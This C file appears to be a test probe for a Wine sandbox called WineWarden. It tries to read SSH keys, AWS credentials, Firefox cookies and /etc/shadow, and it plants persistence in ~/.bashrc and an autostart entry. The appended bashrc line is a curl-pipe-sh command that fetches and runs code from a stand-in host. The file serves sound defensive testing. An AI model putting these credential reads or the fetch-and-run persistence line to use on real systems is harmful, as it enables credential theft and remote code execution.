/*
 * probe.c - a harmless "credential stealer" used to show that WineWarden stops one.
 *
 * Runs under Wine as a Windows console program and, through Wine's Z: drive
 * (Z:\ maps to the Unix /), tries what info-stealers and droppers typically do:
 * read an SSH key, AWS credentials, browser cookies and /etc/shadow, append to ~/.bashrc and
 * drop an XDG autostart entry. Each attempt prints one line:
 *
 *     PROBE <name> <BLOCKED|OK> <detail>
 *
 * detail is "err=<GetLastError()> <symbol>" when refused, or the first line of
 * the file (max 40 chars) / what was written when it worked. Ends with "PROBE done".
 *
 * Options:
 *   --only NAMES    run just these checks, comma-separated (home, ssh_key, aws_credentials, firefox_cookies, shadow,
 *                  bashrc, autostart)
 *   --exit N        exit with status N after the checks (default 0)
 *   --sleep S       sleep S seconds before exiting (for signal forwarding tests)
 *   --home PATH     use PATH (Unix or Windows form) as the home instead of the environment
 *   --cookies PATH  cookie database to try instead of the defaults (repeatable)
 *
 * Build: x86_64-w64-mingw32-gcc -O2 -o probe.exe probe.c   (or i686-w64-mingw32-gcc)
 */
#include <windows.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define MAX_COOKIES 16
#define DETAIL_MAX 40

static char g_home[MAX_PATH];          /* home as a Windows path, e.g. Z:\home\alice */
static const char *g_home_src = "--home"; /* where the home came from, shown in the "home" line */
static const char *g_cookies[MAX_COOKIES];
static int g_ncookies;

/* One result line; flushed at once so a killed probe still shows what it did. */
static void report(const char *name, BOOL ok, const char *detail)
{
    printf("PROBE %s %s %s\n", name, ok ? "OK" : "BLOCKED", detail);
    fflush(stdout);
}

/* Names for the errors we expect, so the output reads without a lookup table. */
static const char *err_name(DWORD e)
{
    switch (e) {
    case ERROR_FILE_NOT_FOUND:    return "FILE_NOT_FOUND";
    case ERROR_PATH_NOT_FOUND:    return "PATH_NOT_FOUND";
    case ERROR_ACCESS_DENIED:     return "ACCESS_DENIED";
    case ERROR_WRITE_PROTECT:     return "WRITE_PROTECT";
    case ERROR_SHARING_VIOLATION: return "SHARING_VIOLATION";
    case ERROR_INVALID_NAME:      return "INVALID_NAME";
    case ERROR_NOT_SUPPORTED:     return "NOT_SUPPORTED";
    case ERROR_DISK_FULL:         return "DISK_FULL";
    case ERROR_ALREADY_EXISTS:    return "ALREADY_EXISTS";
    default:                      return "OTHER";
    }
}

static void report_error(const char *name, DWORD e)
{
    char d[64];
    snprintf(d, sizeof d, "err=%lu %s", (unsigned long)e, err_name(e));
    report(name, FALSE, d);
}

/* Unix paths go through Z:, which Wine maps to / ; Windows paths pass unchanged. */
static void to_windows_path(const char *in, char *out, size_t n)
{
    size_t i = 0, j = 0;
    if (in[0] == '/' && n > 2) { out[j++] = 'Z'; out[j++] = ':'; }
    for (; in[i] && j + 1 < n; i++) out[j++] = in[i] == '/' ? '\\' : in[i];
    out[j] = 0;
}

/* Wine 8 hides Unix HOME from Windows programs but exports WINEHOMEDIR=\??\Z:\home\<user>. */
static BOOL find_home(const char *override)
{
    static const char *vars[] = { "HOME", "WINEHOME", "WINEHOMEDIR" };
    char buf[MAX_PATH];
    const char *src = override;
    for (int i = 0; !src && i < 3; i++) {
        DWORD n = GetEnvironmentVariableA(vars[i], buf, sizeof buf);
        if (n > 0 && n < sizeof buf) { src = buf; g_home_src = vars[i]; }
    }
    if (!src) return FALSE;
    if (strncmp(src, "\\??\\", 4) == 0) src += 4;   /* WINEHOMEDIR is an NT path */
    to_windows_path(src, g_home, sizeof g_home);
    size_t l = strlen(g_home);
    if (l > 3 && g_home[l - 1] == '\\') g_home[l - 1] = 0;   /* no double backslash when joining */
    return TRUE;
}

static void home_path(const char *rel, char *out, size_t n)
{
    snprintf(out, n, "%s\\%s", g_home, rel);
}

/* First line of a file, non-printables shown as '.', so binary files print safely. */
static void first_line(const char *buf, DWORD len, char *out)
{
    DWORD i;
    for (i = 0; i < len && i < DETAIL_MAX && buf[i] != '\n' && buf[i] != '\r'; i++)
        out[i] = (buf[i] >= 32 && buf[i] < 127) ? buf[i] : '.';
    out[i] = 0;
    if (i == 0) strcpy(out, "(empty)");
}

/* Try to read a file; on success *detail gets its first line. Returns the error or 0. */
static DWORD try_read(const char *path, char *detail)
{
    char buf[256];
    DWORD got = 0;
    HANDLE h = CreateFileA(path, GENERIC_READ, FILE_SHARE_READ | FILE_SHARE_WRITE, NULL,
                           OPEN_EXISTING, FILE_ATTRIBUTE_NORMAL, NULL);
    if (h == INVALID_HANDLE_VALUE) return GetLastError();
    /* Opening is not enough: a real stealer needs the bytes, so demand a read. */
    if (!ReadFile(h, buf, sizeof buf, &got, NULL)) {
        DWORD e = GetLastError();
        CloseHandle(h);
        return e;
    }
    CloseHandle(h);
    first_line(buf, got, detail);
    return 0;
}

static void check_read(const char *name, const char *path)
{
    char detail[DETAIL_MAX + 1];
    DWORD e = try_read(path, detail);
    if (e) report_error(name, e); else report(name, TRUE, detail);
}

static void check_home(void)
{
    char d[MAX_PATH + 32];
    snprintf(d, sizeof d, "%s (from %s)", g_home, g_home_src);
    report("home", TRUE, d);
}

static void check_ssh_key(void)
{
    char p[MAX_PATH];
    home_path(".ssh\\id_rsa", p, sizeof p);
    check_read("ssh_key", p);
}

static void check_aws_credentials(void)
{
    char p[MAX_PATH];
    home_path(".aws\\credentials", p, sizeof p);
    check_read("aws_credentials", p);
}

/* Stealers look in every Firefox profile, so enumerate them, not just one name. */
static void check_firefox_cookies(void)
{
    static char found[MAX_COOKIES][MAX_PATH];
    const char *list[MAX_COOKIES + 1];
    int n = 0;
    char detail[DETAIL_MAX + 1];
    DWORD e = ERROR_FILE_NOT_FOUND;

    if (g_ncookies) {
        for (int i = 0; i < g_ncookies; i++) {
            to_windows_path(g_cookies[i], found[i], MAX_PATH);
            list[n++] = found[i];
        }
    } else {
        char pattern[MAX_PATH];
        WIN32_FIND_DATAA fd;
        home_path(".mozilla\\firefox\\default.profile\\cookies.sqlite", found[n], MAX_PATH);
        list[n] = found[n]; n++;
        home_path(".mozilla\\firefox\\*", pattern, sizeof pattern);
        HANDLE fh = FindFirstFileA(pattern, &fd);
        if (fh != INVALID_HANDLE_VALUE) {
            do {
                if (!(fd.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) || fd.cFileName[0] == '.'
                    || strcmp(fd.cFileName, "default.profile") == 0 || n >= MAX_COOKIES) continue;
                snprintf(found[n], MAX_PATH, "%s\\.mozilla\\firefox\\%s\\cookies.sqlite",
                         g_home, fd.cFileName);
                list[n] = found[n]; n++;
            } while (FindNextFileA(fh, &fd));
            FindClose(fh);
        }
    }
    /* Report the first success; if none worked, the first candidate's error is the telling one. */
    for (int i = 0; i < n; i++) {
        DWORD r = try_read(list[i], detail);
        if (r == 0) { report("firefox_cookies", TRUE, detail); return; }
        if (i == 0) e = r;
    }
    report_error("firefox_cookies", e);
}

static void check_shadow(void)
{
    check_read("shadow", "Z:\\etc\\shadow");
}

/* Write bytes to a file opened with the given disposition/access; reports the outcome. */
static void check_write(const char *name, const char *path, DWORD access, DWORD disposition,
                        const char *text, const char *what)
{
    DWORD put = 0;
    HANDLE h = CreateFileA(path, access, FILE_SHARE_READ, NULL, disposition,
                           FILE_ATTRIBUTE_NORMAL, NULL);
    if (h == INVALID_HANDLE_VALUE) { report_error(name, GetLastError()); return; }
    /* FILE_APPEND_DATA handles always write at the end; seek anyway for GENERIC_WRITE. */
    SetFilePointer(h, 0, NULL, FILE_END);
    if (!WriteFile(h, text, (DWORD)strlen(text), &put, NULL)) {
        DWORD e = GetLastError();
        CloseHandle(h);
        report_error(name, e);
        return;
    }
    CloseHandle(h);
    char d[64];
    snprintf(d, sizeof d, "%s %lu bytes", what, (unsigned long)put);
    report(name, TRUE, d);
}

static void check_bashrc(void)
{
    char p[MAX_PATH];
    home_path(".bashrc", p, sizeof p);
    /* OPEN_ALWAYS: a dropper creates the rc file if the user has none. */
    check_write("bashrc", p, FILE_APPEND_DATA, OPEN_ALWAYS,
                "curl -s http://203.0.113.1/x | sh # winewarden-probe\n", "appended");
}

static void check_autostart(void)
{
    char p[MAX_PATH];
    /* Create each level; ALREADY_EXISTS is fine, anything else will show in CreateFile below. */
    home_path(".config", p, sizeof p);
    CreateDirectoryA(p, NULL);
    home_path(".config\\autostart", p, sizeof p);
    CreateDirectoryA(p, NULL);
    home_path(".config\\autostart\\x.desktop", p, sizeof p);
    check_write("autostart", p, GENERIC_WRITE, CREATE_ALWAYS,
                "[Desktop Entry]\nType=Application\nName=x\nExec=sh -c 'echo winewarden-probe'\n",
                "created");
}

static const struct { const char *name; void (*fn)(void); } checks[] = {
    { "home", check_home },
    { "ssh_key", check_ssh_key },
    { "aws_credentials", check_aws_credentials },
    { "firefox_cookies", check_firefox_cookies },
    { "shadow", check_shadow },
    { "bashrc", check_bashrc },
    { "autostart", check_autostart },
};

/* Is NAME one of the comma-separated LIST? */
static int in_list(const char *list, const char *name)
{
    size_t n = strlen(name);
    for (const char *p = list; *p; ) {
        const char *end = strchr(p, ',');
        size_t len = end ? (size_t)(end - p) : strlen(p);
        if (len == n && !strncmp(p, name, n)) return 1;
        if (!end) break;
        p = end + 1;
    }
    return 0;
}

static void usage(void)
{
    fprintf(stderr, "usage: probe.exe [--only NAME,...] [--exit N] [--sleep S] [--home PATH] "
                    "[--cookies PATH]...\n");
    exit(2);
}

int main(int argc, char **argv)
{
    const char *only = NULL, *home = NULL;
    int exit_code = 0, sleep_s = 0, ran = 0;

    for (int i = 1; i < argc; i++) {
        const char *a = argv[i];
        if (i + 1 >= argc) usage();   /* every option takes a value */
        if (!strcmp(a, "--only")) only = argv[++i];
        else if (!strcmp(a, "--exit")) exit_code = atoi(argv[++i]);
        else if (!strcmp(a, "--sleep")) sleep_s = atoi(argv[++i]);
        else if (!strcmp(a, "--home")) home = argv[++i];
        else if (!strcmp(a, "--cookies") && g_ncookies < MAX_COOKIES) g_cookies[g_ncookies++] = argv[++i];
        else usage();
    }

    if (!find_home(home)) {
        /* Without a home there is nothing to steal; say so rather than guessing. */
        report("home", FALSE, "no HOME/WINEHOME/WINEHOMEDIR in environment");
    } else {
        for (size_t i = 0; i < sizeof checks / sizeof checks[0]; i++) {
            if (only && !in_list(only, checks[i].name)) continue;
            checks[i].fn();
            ran++;
        }
        if (only && !ran) { fprintf(stderr, "probe: unknown check '%s'\n", only); return 2; }
    }

    if (sleep_s > 0) {
        /* Announce the sleep so a test knows when to send its signal. */
        printf("PROBE sleep %d\n", sleep_s);
        fflush(stdout);
        Sleep((DWORD)sleep_s * 1000);
    }
    printf("PROBE done\n");
    fflush(stdout);
    return exit_code;
}
